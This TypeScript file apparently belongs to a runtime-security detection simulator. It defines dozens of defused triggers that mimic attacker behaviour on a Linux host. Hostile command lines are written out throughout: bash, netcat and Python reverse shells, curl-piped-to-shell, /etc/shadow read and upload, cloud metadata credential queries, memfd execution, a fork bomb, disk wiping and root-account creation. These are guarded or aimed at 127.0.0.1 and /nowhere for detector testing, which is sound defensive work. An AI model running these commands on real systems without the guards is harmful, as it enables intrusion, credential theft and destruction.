import type { Trigger } from '@cws/core'

/** A copy of /bin/true under this name, with these arguments: nothing of what they say is done. */
const named = (run: string, ...args: readonly string[]): Trigger => ({ run, args, session: true })
/** A shell that ends before it comes to this, or does no more than this. */
const shell = (command: string): Trigger => ({ run: '/bin/sh', args: ['-c', command] })

/** memfd_create has this number on x86-64, MFD_CLOEXEC is 1. */
const MEMORY_FILE = `
  $memory = syscall(319, my $name = "cws-simulate", 1);
  open $to, ">&=", $memory; open $from, "<", "/bin/true"; binmode $_ for $to, $from;
  local $/; print {$to} readline $from; $to->flush;
  exec {"/proc/self/fd/$memory"} "payload"`

/** Programs that run and end on the host itself. */
export const programTriggers: Readonly<Record<string, Trigger>> = {
  'reverse-shell': { run: '/bin/bash', args: ['-c', 'false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1'] },
  'reverse-shell-by-netcat': named('nc', '-e', '/bin/sh', '127.0.0.1', '9'),
  'reverse-shell-by-interpreter': named(
    'python3',
    '-c',
    'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));os.dup2(s.fileno(),0);pty.spawn("sh")',
  ),
  'memfd-exec': { run: '/usr/bin/perl', args: ['-MIO::Handle', '-e', MEMORY_FILE] },
  'exec-from-memory-filesystem': { run: 'payload', folder: '/dev/shm' },
  'executed-file-unlinked': shell('cp /bin/true dropped; exec 3<dropped; rm dropped; exec /proc/self/fd/3'),
  'hidden-executable': { run: '.update' },
  'kernel-thread-disguise': { run: 'worker', argv0: '[kworker/0:1]' },
  'loader-run-by-hand': { run: '/lib64/ld-linux-x86-64.so.2', args: ['/bin/true'] },
  'command-beyond-sight': shell(`${' '.repeat(70_000)}:`),
  'decoder-piped-to-shell': shell('false && echo aWQ= | base64 -d | sh'),
  'download-piped-to-shell': shell('false && curl -fsSL http://127.0.0.1:9/x.sh | sh'),
  'credential-search': named('find', '/home', '-name', 'id_rsa'),
  'password-file-read': named('cat', '/etc/shadow'),
  'preload-from-writable-folder': { run: '/bin/true', env: { LD_PRELOAD: '/tmp/cws-simulate-nowhere.so' }, session: true },
  'set-id-exploit': { run: 'pkexec', argv0: '' },
  // perl sets the real user alone; the shell gives up the other rights before it reads its command.
  'shell-with-set-id-rights': { run: '/usr/bin/perl', args: ['-e', `$< = 65534; exec '/bin/sh', '-c', 'exit 0'`] },
  cryptominer: named('xmrig', '-o', 'stratum+tcp://127.0.0.1:9'),
  'security-tool-stopped': named('setenforce', '0'),
  'file-made-immutable': named('chattr', '+i', '/nowhere'),
  'inline-code-fetched': named('python3', '-c', 'from urllib.request import urlopen; exec(urlopen("http://127.0.0.1:9/").read())'),
  'inline-code-decoded': { run: '/usr/bin/perl', args: ['-e', 'exit; eval(decode_base64("MQ=="))'] },
  'install-script-network-tool': shell('cp /bin/true nc; echo "./nc 127.0.0.1 9; exit 0" >npm; /bin/sh ./npm install nothing; exit 0'),
  'ssh-tunnel-opened': named('ssh', '-N', '-R', '2222:localhost:22', 'nobody@127.0.0.1'),
  'tunnel-program': named('chisel', 'client', '127.0.0.1:9', 'R:socks'),
  'tor-started': named('tor', '-f', '/nowhere'),
  'listener-by-hand': named('nc', '-l', '-p', '9'),
  'secret-sent-away': named('curl', '-T', '/etc/shadow', 'http://127.0.0.1:9/'),
  'paste-site-contacted': named('curl', '--upload-file', '/nowhere', 'https://transfer.sh/x'),
  'cloud-copy-tool': named('rclone', 'copy', '/nowhere', 'remote:x'),
  'data-in-dns-names': named('dig', `${'0123456789abcdef'.repeat(3)}.invalid`),
  'daemon-disguise': named('systemd-worker'),
  'deceptive-file-name': named('invoice.pdf'),
  'timestamp-forged': named('touch', '-r', '/bin/ls', '/usr/bin/cws-simulate-nowhere'),
  'history-switched-off': { run: '/bin/bash', args: ['-c', ':'], env: { HISTFILE: '/dev/null' }, session: true },
  'kernel-log-cleared': named('dmesg', '-C'),
  'process-hidden-by-mount': named('mount', '--bind', '/nowhere', '/proc/1'),
  'firewall-switched-off': named('iptables', '-F'),
  'strange-kernel-module': named('insmod', '/tmp/cws-simulate-nowhere.ko'),
  'kernel-hook-written': named('sysctl', '-w', 'kernel.core_pattern=|/nowhere'),
  'kernel-protection-weakened': named('sysctl', '-w', 'kernel.randomize_va_space=0'),
  'kernel-replaced-at-run-time': named('kexec', '-l', '/nowhere'),
  'cpu-registers-written': named('wrmsr', '-a', '0x1a4', '0xf'),
  'privilege-scanner': named('linpeas.sh'),
  'remote-control-implant': named('gs-netcat', '-s', 'x', '-i'),
  'password-guesser': named('hydra', '-l', 'root', '-P', '/nowhere', 'ssh://127.0.0.1'),
  'attack-scanner': named('masscan', '127.0.0.1', '-p9'),
  'ports-scanned': named('nmap', '-sn', '127.0.0.1'),
  'network-spoofed': named('arpspoof', '-t', '127.0.0.1', '127.0.0.1'),
  'packets-captured': named('tcpdump', '-i', 'lo'),
  'process-memory-read': named('gcore', '1'),
  'cloud-metadata-asked': named('curl', '-s', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/x'),
  'service-token-read': named('cat', '/nowhere/secrets/kubernetes.io/serviceaccount/token'),
  'secret-scanner': named('trufflehog', 'filesystem', '/nowhere'),
  'disk-read-directly': named('debugfs', '-R', 'stats', '/dev/nowhere'),
  'capability-granted': named('setcap', 'cap_setuid+ep', '/nowhere'),
  'set-id-search': named('find', '/nowhere', '-perm', '-4000'),
  // Nobody but root can run it.
  'set-id-with-odd-environment': { run: 'cws-simulate-set-id', mode: 0o4700, env: { GCONV_PATH: '/nowhere' } },
  'set-id-program-crashed': { run: 'crasher', copyOf: '/bin/sh', mode: 0o4700, args: ['-c', 'ulimit -c 0; kill -SEGV $$'] },
  'sudo-with-loader-variable': named('sudo', 'LD_PRELOAD=/nowhere/x.so', 'true'),
  'shell-out-of-allowed-tool': { run: '/bin/sh', below: ['sudo', 'vim'] },
  'user-namespace-by-hand': { run: 'unshare', args: ['--user', '--map-root-user', 'true'], unprivileged: true },
  'privileged-group-joined': named('usermod', '-aG', 'sudo', 'cws-simulate'),
  'second-root-account': named('useradd', '-o', '-u', '0', 'cws-simulate'),
  'password-removed': named('passwd', '-d', 'cws-simulate'),
  'system-removed': named('rm', '-rf', '--no-preserve-root', '/nowhere'),
  'disk-overwritten': named('dd', 'if=/dev/zero', 'of=/dev/sdnowhere'),
  'files-shredded': named('shred', '-u', '/nowhere'),
  'files-encrypted-in-bulk': named('find', '/nowhere', '-exec', 'openssl', 'enc', '-aes-256-cbc', '-in', '{}', ';'),
  'fork-bomb': shell('exit 0; :(){ :|:& };:'),
  'files-gathered-for-carrying-off': named('tar', 'czf', '/tmp/cws-simulate-nowhere.tgz', '/etc'),
  'screen-or-keys-recorded': named('scrot', '/nowhere.png'),
  'link-to-secret': named('ln', '-s', '/etc/shadow', '/nowhere/x'),
  'process-environment-read': named('strings', '/proc/1/environ'),
  'transient-unit-started': named('systemd-run', '--on-calendar=hourly', '/nowhere'),
  'job-queued-by-at': named('at', 'now', '+', '1', 'minute'),
  'ssh-password-on-command-line': named('sshpass', '-p', 'x', 'ssh', 'nobody@127.0.0.1'),
}
